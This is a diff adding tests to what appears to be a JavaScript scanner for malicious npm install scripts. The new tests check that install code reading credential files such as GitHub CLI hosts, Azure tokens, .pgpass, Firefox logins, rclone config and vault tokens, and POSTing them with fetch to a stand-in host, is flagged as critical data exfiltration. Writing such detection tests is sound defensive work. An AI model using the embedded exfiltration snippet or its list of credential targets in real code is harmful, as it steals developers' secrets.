@@ -2547,6 +2547,33 @@ describe('skimmers sending by other doors', () => {
   });
 });
 
+describe('credential stores beyond SSH and npm', () => {
+  it('GitHub CLI hosts, Azure tokens, pgpass, Firefox logins, rclone and vault tokens sent out are credential files', () => {
+    for (const p of [
+      '.config/gh/hosts.yml',
+      '.azure/accessTokens.json',
+      '.pgpass',
+      '.mozilla/firefox/x.default/logins.json',
+      '.config/rclone/rclone.conf',
+      '.vault-token',
+    ]) {
+      const r = install(`const fs = require('fs'), os = require('os');
+const d = fs.readFileSync(os.homedir() + '/${p}', 'utf8');
+fetch('https://c.example-sync.dev/u', { method: 'POST', body: d });`);
+      expect(r.risk_level).toBe('critical');
+      expect(threatsOf(r)).toContain('data_exfiltration');
+    }
+  });
+  it('reading the yarn config to find the registry is not', () => {
+    expect(
+      threatsOf(
+        install(`const fs = require('fs'), os = require('os');
+const rc = fs.readFileSync(os.homedir() + '/.yarnrc.yml', 'utf8'); fetch('https://registry.example.org/-/ping', { method: 'GET' }); console.log(rc.length);`),
+      ),
+    ).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
